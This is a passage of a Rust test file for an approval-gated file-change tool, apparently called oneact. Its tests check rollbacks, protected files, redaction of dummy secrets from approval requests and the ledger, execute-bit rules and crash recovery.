        assert_eq!(done.state(), "done", "{}", done.envelope);
        done.at("/output/content/oneact/reports/directory").clone()
    };
    let first = report(root.run(&plan("pyproject.toml")));
    let back = |directory: &Value, key: &str| {
        json!({
            "envelope": {"message_type": "ROLLBACK_REQUEST"},
            "payload": {"task_id": key, "content": {"report_directory": directory}},
            "metadata": {"session_id": "s", "idempotency_key": key},
        })
    };
    let undo = back(&first, "undo");
    let id = asks(&root.run(&undo));
    assert_eq!(
        (asks(&root.run(&undo)), content().as_str()),
        (id.clone(), "1.1\n")
    );
    let (_, diff, _) = oneact(&root, &["approvals", &id]);
    assert!(
        diff.contains("changed, 4 bytes before, 4 bytes after, protected"),
        "{diff}"
    );
    assert!(diff.contains("-1.1\n+1.0"), "{diff}");
    // What was approved is not what would be done.
    fs::write(root.path.join("catalog.toml"), entry("when = \"never\"")).unwrap();
    approve(&root, &id);
    let second = report(root.run(&undo));
    assert_eq!(content(), "1.0\n");
    // The rollback of the rollback makes the approved change again.
    let redo = back(&second, "redo");
    let id = asks(&root.run(&redo));
    approve(&root, &id);
    fs::write(&file, "1.0\n2.0\n").unwrap();
    let changed = root.run(&redo);
    assert_eq!(changed.fault(), "rollback_conflict", "{}", changed.envelope);
    fs::write(&file, "1.0\n").unwrap();
    let own = format!(
        "approvers = [\"uid:{}\"]",
        rustix::process::geteuid().as_raw() + 1
    );
    fs::write(root.path.join("catalog.toml"), entry(&own)).unwrap();
    let id = asks(&root.run(&back(&second, "other")));
    let (exit, shown) = at_a_terminal(&root, "y\n", &["approve", &id]);
    assert_eq!((exit, content().as_str()), (2, "1.0\n"), "{shown}");
    // A person needs no approval for it.
    let (exit, _, problem) = oneact(&root, &["rollback", second.as_str().unwrap()]);
    assert_eq!((exit, content().as_str()), (0, "1.1\n"), "{problem}");
    assert_eq!(oneact(&root, &["verify"]).0, 0);
}

#[test]
fn no_approval_lets_a_plan_change_the_files_of_oneact_or_what_the_catalog_never_allows() {
    let never = "catalog = 1\n[capability.apply_file_plan.file_plan]\nprotected.important = { rule = \"never\" }\n[approval]\nallowed_signers = \"allowed\"\n";
    let root = Root::with_catalog(never);
    fs::write(root.path.join("pyproject.toml"), "1.0\n").unwrap();
    fs::create_dir_all(root.path.join(".oneact")).unwrap();
    fs::write(root.path.join(".oneact/x"), "1.0\n").unwrap();
    fs::write(root.path.join("allowed"), "1.0\n").unwrap();
    for target in ["pyproject.toml", ".oneact/x", "allowed"] {
        let refused = root.run(&plan(target));
        assert_eq!(
            (refused.exit, refused.fault()),
            (2, &json!("protected_file")),
            "{}",
            refused.envelope
        );
    }
}

/// What the parameters and the diff of a request show, in one text.
fn shown(root: &Root, id: &str) -> String {
    let (exit, shown, problem) = oneact(root, &["approvals", id]);
    assert_eq!(exit, 0, "{problem}");
    shown
}

fn plan_of(actions: &Value) -> Value {
    json!({
        "task_plan": {"plan_id": "p", "action_plan": actions},
        "protocol_validation": true, "metadata": {"session_id": "s", "request_id": "r"},
    })
}

fn of_env(pattern: &str, replacement: &str) -> Value {
    json!({"action_id": "env", "action_type": "FILE_MODIFY", "target": ".env",
           "operation": {"type": "text_replace", "pattern": pattern, "replacement": replacement}})
}

/// R-001-161: as in the reports of a finished plan.
#[test]
fn the_request_of_a_plan_has_no_secrets_of_its_files() {
    let notify = "catalog = 1\n[approval]\nnotify = [\"sh\", \"-c\", \"cat > told\"]\n";
    let root = Root::with_catalog(notify);
    let secrets = "PASSWORD=hunter2\nA=1\nDB=postgres://u:hunter2@h/db\n";
    fs::write(root.path.join(".env"), secrets).unwrap();
    let first = root.run(&plan_of(&json!([of_env("A=1", "A=2")])));
    let listed = shown(&root, &asks(&first));
    let file =
        ".env: changed, 50 bytes before, 50 bytes after, 2 values hidden in the diff, protected";
    assert!(listed.contains(file), "{listed}");
    assert!(listed.contains(" PASSWORD=***\n-A=1\n+A=2\n"), "{listed}");
    let told = fs::read_to_string(root.path.join("told")).unwrap();
    let ledger = Connection::open(root.path.join(".oneact/ledger.db")).unwrap();
    let row = "SELECT request || response FROM agent_actions";
    let row: String = ledger.query_row(row, [], |row| row.get(0)).unwrap();
    for text in [&listed, &told, &row, &first.envelope.to_string()] {
        assert!(!text.contains("hunter2"), "{text}");
    }
}

#[test]
fn the_request_of_a_plan_lists_its_files_and_no_file_hides_another() {
    let root = Root::with_catalog("catalog = 1\n");
    fs::write(root.path.join(".env"), "A=1\n").unwrap();
    let create = |id: &str, content: &str| {
        json!({"action_id": id, "action_type": "FILE_CREATE", "target": id,
               "operation": {"type": "create", "content": content}})
    };
    let mut binary = create("binary", "AAE=");
    binary["operation"]["encoding"] = json!("base64");
    let actions = json!([
        create("a", &"filler\n".repeat(70_000)),
        binary,
        of_env("A=1", "A=evil")
    ]);
    let id = asks(&root.run(&plan_of(&actions)));
    let listed = shown(&root, &id);
    let (_, diffs) = listed.split_once("\n\n").unwrap();
    let list = ".env: changed, 4 bytes before, 7 bytes after, protected\n\
                binary: created, 0 bytes before, 2 bytes after\n\
                a: created, 0 bytes before, 490000 bytes after\n\
                diff --git a/.env b/.env\n";
    assert!(diffs.starts_with(list), "{}", &diffs[..400]);
    let (_, terminal) = at_a_terminal(&root, "n\n", &["approve", &id]);
    for text in [listed.as_str(), &terminal.replace('\r', "")] {
        for part in [
            "-A=1\n+A=evil\n",
            "after: 2 bytes, SHA-256 b413f47d13ee2fe6c845b2ee141af81de858df4ec549a58b7970bb96645bc8d2\n",
            "more bytes of the diff of a: created",
        ] {
            assert!(text.contains(part), "{part}");
        }
    }
}

#[test]
fn long_paths_leave_the_request_of_a_plan_short() {
    let root = Root::with_catalog("catalog = 1\n");
    fs::write(root.path.join(".env"), "A=1\n").unwrap();
    let long = vec!["n".repeat(200); 18].join("/");
    let create = |at: usize| {
        json!({"action_id": format!("a{at}"), "action_type": "FILE_CREATE", "target": format!("{long}/{at}"),
               "operation": {"type": "create", "content": "y\n"}})
    };
    let mut actions: Vec<Value> = (0..99).map(create).collect();
    actions.push(of_env("A=1", "A=evil"));
    let listed = shown(&root, &asks(&root.run(&plan_of(&json!(actions)))));
    let (_, diffs) = listed.split_once("\n\n").unwrap();
    assert!(diffs.starts_with(".env: changed, 4 bytes before, 7 bytes after, protected\n"));
    assert!(diffs.find("+A=evil\n").unwrap() < 40_000);
    let (_, counted) = diffs.split_once("… and ").unwrap();
    assert!(
        counted[2..].starts_with(" more files, none of them protected\n"),
        "{}",
        &counted[..80]
    );
    assert!(diffs.len() < 350_000, "{}", diffs.len());
}

/// The catalog exempts paths, not the way by which a file gets there (C-16).
#[test]
fn an_exempted_path_makes_no_other_file_executable() {
    let executes = "catalog = 1\n[capability.apply_file_plan.file_plan]\nprotected.executes = { except = [\"scripts/**\"] }\n";
    let create = json!({"action_id": "c", "action_type": "FILE_CREATE", "target": "scripts/x.sh",
                        "operation": {"type": "create", "content": "x\n", "mode": "0755"}});
    let rename = json!({"action_id": "r", "action_type": "FILE_RENAME", "target": "scripts/x.sh",
                        "operation": {"type": "rename", "new_path": "bin/x.sh"}});
    let root = Root::with_catalog(executes);
    let id = asks(&root.run(&plan_of(&json!([create, rename]))));
    assert!(
        shown(&root, &id).contains("bin/x.sh: created, 0 bytes before, 2 bytes after, protected\n")
    );
    let mut alone = plan_of(&json!([create]));
    alone["task_plan"]["plan_id"] = json!("p1");
    let done = root.run(&alone);
    assert_eq!(done.exit, 0, "{}", done.envelope);
    let mut moved = plan_of(&json!([rename]));
    moved["task_plan"]["plan_id"] = json!("p2");
    asks(&root.run(&moved));
    assert!(!root.path.join("bin").exists());
    let linked = Root::with_catalog(executes);
    fs::create_dir(linked.path.join("src")).unwrap();
    std::os::unix::fs::symlink("src", linked.path.join("scripts")).unwrap();
    asks(&linked.run(&plan_of(&json!([create]))));
    assert!(!linked.path.join("src/x.sh").exists());
}

/// Nobody could use the approval of a session that only compares results.
#[test]
fn a_step_that_waits_for_an_approval_is_not_repeated_for_a_comparison() {
    let root = waiting_root();
    let repeatable = catalog("when = \"always\"", "").replace(
        "effects = { destructive = false,",
        "effects = { idempotent = true, destructive = false,",
    );
    fs::write(root.path.join("catalog.toml"), repeatable).unwrap();
    approve(&root, &asks(&root.run(&task("mail"))));
    assert_eq!(root.run(&task("mail")).exit, 0);
    let (exit, said, _) = oneact(&root, &["replay", "1", "--execute"]);
    assert_eq!((exit, happened(&root)), (2, 1), "{said}");
    assert!(said.contains("waits for an approval"), "{said}");
    let (_, list, _) = oneact(&root, &["approvals"]);
    assert_eq!(list, "Nothing waits for an approval.\n");
}

#[test]
fn a_signal_ends_the_program_that_is_told_of_a_request() {
    let notify = "notify = [\"sh\", \"-c\", \"sleep 3.9 & echo $! > told; wait\"]";
    let root = Root::with_catalog(&catalog("", notify));
    let mut child = root.command().spawn().unwrap();
    feed(&mut child, &task("mail"));
    let told = || fs::read_to_string(root.path.join("told")).unwrap_or_default();
    while !told().ends_with('\n') {
        thread::sleep(Duration::from_millis(5));
    }
    let begun = std::time::Instant::now();
    signal_child(&child, Signal::TERM);
    let output = child.wait_with_output().unwrap();
    assert!(
        begun.elapsed() < Duration::from_secs(2),
        "{:?}",
        begun.elapsed()
    );
    let left = format!("/proc/{}/cmdline", told().trim());
    until("its child is killed", || {
        let command = fs::read(&left).unwrap_or_default();
        command.is_empty().then_some(())
    });
    let envelope = text(&*output.stdout);
    assert!(envelope.contains("was stopped by SIGTERM"), "{envelope}");
}

/// A file with an execute bit may move, and no new one may take the bit at the path that it leaves (C-16).
#[test]
fn one_executable_file_does_not_become_two() {
    let act = |kind: &str, target: &str, operation: Value| json!({"action_id": format!("{kind} {target}"), "action_type": kind, "target": target, "operation": operation});
    let renamed = |from: &str, to: &str| {
        act(
            "FILE_RENAME",
            from,
            json!({"type": "rename", "new_path": to}),
        )
    };
    let edited = |at: &str| {
        let edit = json!({"type": "text_replace", "pattern": "old", "replacement": "new"});
        act("FILE_MODIFY", at, edit)
    };
    let created = |mode: Option<&str>| {
        let mut created = json!({"type": "create", "content": "old\n"});
        if let Some(mode) = mode {
            created["mode"] = json!(mode);
        }
        act("FILE_CREATE", "run", created)
    };
    for (actions, waits) in [
        (
            json!([renamed("run", "bin/x"), edited("bin/x"), created(None)]),
            true,
        ),
        (
            json!([
                renamed("run", "a"),
                renamed("a", "bin/x"),
                created(Some("0755"))
            ]),
            true,
        ),
        (
            json!([
                renamed("run", "bin/x"),
                edited("bin/x"),
                created(Some("0644"))
            ]),
            false,
        ),
        (
            json!([
                renamed("run", "bin/x"),
                edited("bin/x"),
                renamed("other", "run")
            ]),
            false,
        ),
    ] {
        let root = Root::with_catalog("catalog = 1\n");
        for name in ["run", "other"] {
            let path = root.path.join(name);
            fs::write(&path, "old\n").unwrap();
            fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
        }
        let answer = root.run(&plan_of(&actions));
        assert_eq!(
            answer.exit,
            if waits { 3 } else { 0 },
            "{actions}: {}",
            answer.envelope
        );
        if waits {
            let listed = shown(&root, &asks(&answer));
            assert!(
                listed.contains("bin/x: created, 0 bytes before, 4 bytes after, protected\n"),
                "{listed}"
            );
        }
    }
}

/// A plan that is killed while it changes a protected file is settled, because its journal says that it was approved.
#[test]
fn an_approved_plan_that_is_killed_is_settled() {
    for call in (4..40).step_by(3) {
        let root = Root::with_catalog("catalog = 1\n");
        let file = root.path.join("pyproject.toml");
        fs::write(&file, "version = \"1.0\"\n").unwrap();
        let id = asks(&root.run(&plan("pyproject.toml")));
        approve(&root, &id);
        let mut command = root.command();
        command.env("ONEACT_FAULTS", format!("kill@{call}"));
        let mut child = command.spawn().unwrap();
        feed(&mut child, &plan("pyproject.toml"));
        child.wait_with_output().unwrap();
        let (exit, said, problem) = oneact(&root, &["recover"]);
        assert_eq!(exit, 0, "kill@{call}: {said}{problem}");
        let now = fs::read_to_string(&file).unwrap();
        assert!(
            ["version = \"1.0\"\n", "version = \"1.1\"\n"].contains(&now.as_str()),
            "{now}"
        );
    }
}

#[test]
fn without_a_ledger_nothing_that_needs_an_approval_is_performed() {
    let root = waiting_root();
    let mut command: Command = root.command();
    command.env("ONEACT_LEDGER", "none");
    let refused = run(command, task("mail").to_string().as_bytes());
    assert_eq!(
        (refused.exit, refused.fault()),
        (2, &json!("ledger_unavailable")),
        "{}",
        refused.envelope
    );
    assert_eq!(happened(&root), 0);
}
